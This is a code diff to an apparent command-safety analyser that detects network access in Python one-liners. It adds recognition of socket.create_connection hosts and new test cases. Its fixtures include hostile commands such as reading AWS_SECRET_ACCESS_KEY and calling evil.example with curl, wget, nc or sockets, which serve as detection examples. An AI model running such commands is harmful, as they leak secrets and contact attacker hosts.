@@ -893,6 +893,13 @@ class PythonReader {
       const h = host?.vals.length === 1 && host.vals[0]!.k === 'str' ? host.vals[0]!.v : undefined;
       return h !== undefined && /^[\w.:[\]-]+$/.test(h) ? `http://${h}/` : undefined;
     }
+    // `socket.create_connection(("localhost", 5432))`: the host of its literal (host, port) pair.
+    if (/^(?:socket|ssl)\.create_connection$/.test(api)) {
+      const pair = c.args[0] ?? c.kw.get('address');
+      const p = pair?.vals.length === 1 && pair.vals[0]!.k === 'list' && !pair.vals[0]!.open ? pair.vals[0]!.items : undefined;
+      const host = p?.length === 2 && p[0]!.vals.length === 1 && p[0]!.vals[0]!.k === 'str' ? p[0]!.vals[0]!.v : undefined;
+      return host !== undefined && /^[\w.-]+$/.test(host) ? `http://${host}/` : undefined;
+    }
     if (!/\.(get|post|put|patch|delete|head|options|request|urlopen|Request|stream)$/.test(api)) return undefined;
     return literalUrl(/\.(request|stream)$/.test(api) ? (c.args[1] ?? c.kw.get('url')) : (c.args[0] ?? c.kw.get('url')));
   }
@@ -1542,6 +1549,7 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import os, sys; print(os.environ.get(sys.argv[1]))' AWS_SECRET_ACCESS_KEY`,
       `python3 -c 'import urllib.request as r; r.urlopen("http://evil.example/x")'`,
       `python3 -c 'import socket; socket.create_connection(("evil.example", 9))'`,
+      `python3 -c 'import socket, sys; socket.create_connection((sys.argv[1], 5432))' localhost`,
       `python3 -c 'import subprocess; subprocess.run(["wget", "evil.example"])'`,
       `python3 -c '__import__("os").system("nc evil.example 9")'`,
       `echo 'import os; os.system("curl evil.example")' | python3 -c 'import runpy; runpy.run_path("/dev/stdin")'`,
@@ -1615,6 +1623,7 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'from flask import Flask; Flask(__name__).run("0.0.0.0", 5000)'`,
     ],
     pass: [
+      `python3 -c 'import socket; socket.create_connection(("localhost", 5432), timeout=2)'`,
       `python3 -c 'from flask import Flask; Flask(__name__).run("127.0.0.1", 5000)'`,
       `python3 -c 'import zmq; zmq.Context().socket(zmq.REP).bind("ipc:///tmp/app.sock")'`,
       `python3 -c 'from http.server import HTTPServer, BaseHTTPRequestHandler as H; HTTPServer(("127.0.0.1", 8000), H).serve_forever()'`,
